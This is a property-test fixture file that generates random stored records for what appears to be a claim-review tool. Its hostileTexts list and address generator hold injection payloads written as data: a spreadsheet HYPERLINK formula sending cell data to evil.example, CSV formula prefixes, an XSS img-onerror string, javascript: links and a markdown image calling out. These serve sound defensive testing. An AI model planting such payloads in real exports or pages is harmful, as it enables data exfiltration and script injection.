/** Random records of the reader's, as they are stored, with texts that mean to harm files. For property tests. */
import fc from 'fast-check';
import { keptCheckOf } from '../src/check/kept-check';
import { type ChosenStyles, firstStyles } from '../src/claims/mark-style';
import type { Report } from '../src/claims/report';
import type { ArchivedSource } from '../src/export/archive';
import { confidenceMosts } from '../src/import/review-profile';
import type { Question } from '../src/question/question';
import type { Settings } from '../src/store/settings-schema';
import type { Rejection } from '../src/verdicts/rejection';
import type { Verdict, VerdictEvent } from '../src/verdicts/verdict';
import type { WorkLink } from '../src/verdicts/work-link';
import { sampleCheckFile } from './gallery/sample-check';

export const hostileTexts = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1',
  '-0.45',
  '@SUM(1)',
  '\tx',
  '\rx',
  '＝1',
  '"quoted", with; commas\r\nand lines',
  '</script><img src=x onerror=alert(1)>',
  '![x](https://evil.example/p.png)',
  '[x](javascript:alert(1))',
  '# no heading\n- no list\n```\nno code',
  '\u202Eright to left',
  '\uD83D',
  '\uFEFF',
  '__proto__',
  '{"format":"claimlight-archive"}',
  '',
];
export const randomText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.constantFrom(...hostileTexts) },
);
const print = fc.stringMatching(/^[0-9a-f]{16}$/);
const group = fc.constantFrom('0123456789abcdef', 'fedcba9876543210', '00000000000000aa');
const time = fc
  .date({ min: new Date('2020-01-01'), max: new Date('2026-01-01'), noInvalidDate: true })
  .map((date) => date.toISOString());
const value = fc.constantFrom('confirmed' as const, 'disputed' as const);
const address = fc.oneof(
  fc.constantFrom(
    'https://arxiv.org/html/2504.16584',
    'pdf:0123456789abcdef',
    'file:///home/a b.html',
    'javascript:alert(1)',
  ),
  randomText,
);
const offset = fc.nat(1_000_000);
const work = fc.constantFrom(
  'arxiv:2504.16584' as const,
  'doi:10.1000/x' as const,
  'doi:10.1000/(y)' as const,
);

const tags = fc.array(
  randomText.map((text) => text.slice(0, 40) || 'a tag'),
  { minLength: 1, maxLength: 3 },
);
const event: fc.Arbitrary<VerdictEvent> = fc.record(
  { id: fc.uuid(), at: time, value, note: randomText, tags },
  { requiredKeys: ['at', 'note'] },
);
export const randomVerdict: fc.Arbitrary<Verdict> = fc.record(
  {
    id: fc.uuid(),
    group,
    fingerprints: fc.array(print, { minLength: 1, maxLength: 3 }),
    texts: fc.array(randomText, { minLength: 1, maxLength: 3 }),
    examinedTitle: randomText,
    value,
    note: randomText,
    tags,
    evidence: fc.record(
      {
        url: address,
        quote: fc.record({ exact: randomText, prefix: randomText, suffix: randomText }),
        position: fc.record({ start: offset, end: offset }),
        version: fc.integer({ min: 1, max: 999 }),
      },
      { requiredKeys: ['url', 'quote', 'position'] },
    ),
    trail: fc.record({
      reportIds: fc.array(print, { maxLength: 2 }),
      citing: fc.record({ works: fc.array(work, { maxLength: 2 }), url: address }),
      cited: fc.record({ works: fc.array(work, { maxLength: 2 }), title: randomText }),
    }),
    updatedAt: time,
    history: fc.array(event, { minLength: 1, maxLength: 4 }),
  },
  {
    requiredKeys: ['id', 'group', 'fingerprints', 'texts', 'examinedTitle', 'note', 'updatedAt', 'history'],
  },
);
export const randomRejection: fc.Arbitrary<Rejection> = fc.record({
  id: fc.uuid(),
  url: address,
  group,
  fingerprints: fc.array(print, { minLength: 1, maxLength: 2 }),
  texts: fc.array(randomText, { minLength: 1, maxLength: 2 }),
  isCut: fc.boolean(),
  sentences: fc.array(randomText, { minLength: 1, maxLength: 4 }),
  wrong: fc.array(fc.nat(3), { maxLength: 2 }),
  rejectedAt: time,
});
export const randomCheck = fc
  .record({
    title: randomText,
    day: time,
    textHash: print,
    dismissed: fc.uniqueArray(randomText, { maxLength: 2 }),
  })
  .map(({ title, day, textHash, dismissed }) => {
    const base = sampleCheckFile({ textHash, date: day.slice(0, 10) });
    const file = { ...base, page: { ...base.page, title } };
    return { ...keptCheckOf(file, true, day), dismissed };
  });
export const randomQuestion: fc.Arbitrary<Question> = fc.record({
  id: fc.uuid(),
  text: fc.string({ maxLength: 40 }),
  terms: fc.array(randomText, { minLength: 1, maxLength: 3 }),
  phase: fc.constantFrom('done', 'stopped', 'failed'),
  tries: fc.nat(3),
  askedAt: time,
  services: fc.constant(['crossref'] as const),
  works: fc.array(
    fc.record({
      title: randomText,
      authors: fc.array(randomText, { maxLength: 3 }),
      hasMoreAuthors: fc.boolean(),
      year: fc.integer({ min: 1900, max: 2030 }),
      ids: fc.array(work, { maxLength: 1 }),
      address: fc.constant('https://doi.org/10.1000/x'),
      sources: fc.constant(['crossref'] as const),
      notices: fc.constant([] as const),
      fate: fc.constantFrom('read', 'beyond'),
    }),
    { maxLength: 3 },
  ),
});
/** Of works of their own: a work has one partner. */
export const randomLinks: fc.Arbitrary<WorkLink[]> = fc
  .uniqueArray(
    fc.tuple(fc.integer({ min: 10_000, max: 99_999 }), time, fc.constantFrom('since', 'removedAt', 'none')),
    {
      maxLength: 4,
      selector: ([number]) => number,
    },
  )
  .map((all) =>
    all.map(([number, at, word]): WorkLink => {
      const [preprint, published] = [
        `arxiv:2504.${String(number)}`,
        `doi:10.1000/${String(number)}`,
      ] as const;
      return {
        id: `${preprint} ${published}`,
        preprint,
        published,
        declarations: [{ host: 'arxiv.org', page: 'own', date: at }],
        ...(word !== 'none' && { [word]: at }),
      };
    }),
  );
export const randomReport: fc.Arbitrary<Report> = fc.record(
  {
    id: print,
    title: randomText.map((text) => `Report ${text}`),
    isTitleCut: fc.boolean(),
    publisher: randomText,
    date: time.map((at) => at.slice(0, 10)),
    abstract: randomText,
    examinedTitle: randomText,
    researchQuestion: randomText,
    papersRetrieved: fc.nat(100),
    qualityScore: fc.constantFrom(0, 5.5, 10),
    claimsExtracted: fc.nat(10),
    claimsVerified: fc.nat(10),
    assertions: fc.array(
      fc.record(
        {
          text: randomText.map((text) => `Claim ${text}`),
          isCut: fc.boolean(),
          isVerified: fc.boolean(),
          confidence: fc.constantFrom(0, 0.22, 1),
        },
        { requiredKeys: ['text', 'isCut', 'isVerified'] },
      ),
      { maxLength: 3 },
    ),
    references: fc.array(fc.record({ work }), { maxLength: 2 }),
  },
  {
    // All but what a review of another kind does not tell.
    requiredKeys: [
      'id',
      'title',
      'isTitleCut',
      'publisher',
      'date',
      'abstract',
      'examinedTitle',
      'researchQuestion',
      'claimsExtracted',
      'claimsVerified',
      'assertions',
      'references',
    ],
  },
);
const randomSource: fc.Arbitrary<ArchivedSource> = fc.record({
  id: fc.uuid().map((id) => `imported:${id}` as const),
  name: fc.string({ minLength: 1, maxLength: 40 }).map((name) => name.trim() || 'An import'),
  isOff: fc.boolean(),
  importedAt: time,
  files: fc.nat(10),
  refused: fc.nat(10),
  reports: fc.uniqueArray(randomReport, { minLength: 1, maxLength: 3, selector: ({ id }) => id }),
});
export const randomSettings: fc.Arbitrary<Settings> = fc.record({
  areMarksOn: fc.boolean(),
  isStripOn: fc.boolean(),
  areListingMarksOn: fc.boolean(),
  areReferenceMarksOn: fc.boolean(),
  opensByHover: fc.boolean(),
  opensPdfs: fc.boolean(),
  checksPapers: fc.boolean(),
  listsByClaim: fc.boolean(),
  isBlind: fc.boolean(),
  sitesOff: fc.uniqueArray(fc.domain(), { maxLength: 2 }),
  reviewProfiles: fc.array(
    fc.record(
      {
        name: fc.constantFrom('Reviews A', 'Reviews B'),
        claim: fc.string({ maxLength: 20 }),
        verdict: fc.string({ maxLength: 20 }),
        verified: fc.array(fc.string({ maxLength: 20 }), { maxLength: 3 }),
        confidence: fc.record({
          column: fc.string({ maxLength: 20 }),
          most: fc.constantFrom(...confidenceMosts),
        }),
        paper: fc.oneof(
          fc.constant({ kind: 'heading' as const }),
          fc.record({ kind: fc.constant('column' as const), column: fc.string({ maxLength: 20 }) }),
        ),
      },
      { requiredKeys: ['name', 'claim', 'verdict', 'verified', 'paper'] },
    ),
    { maxLength: 2 },
  ),
  styles: fc.constantFrom<ChosenStyles>({}, { mixed: firstStyles.figures, differs: firstStyles.verified }),
});
const unique = <T extends { readonly id: string }>(one: fc.Arbitrary<T>) =>
  fc.uniqueArray(one, { maxLength: 4, selector: ({ id }) => id });
export const randomRecords = fc.record({
  verdicts: unique(randomVerdict),
  rejections: unique(randomRejection),
  checks: unique(randomCheck),
  questions: unique(randomQuestion),
  links: randomLinks,
  sources: unique(randomSource),
  settings: randomSettings.map((settings) => [settings]),
});
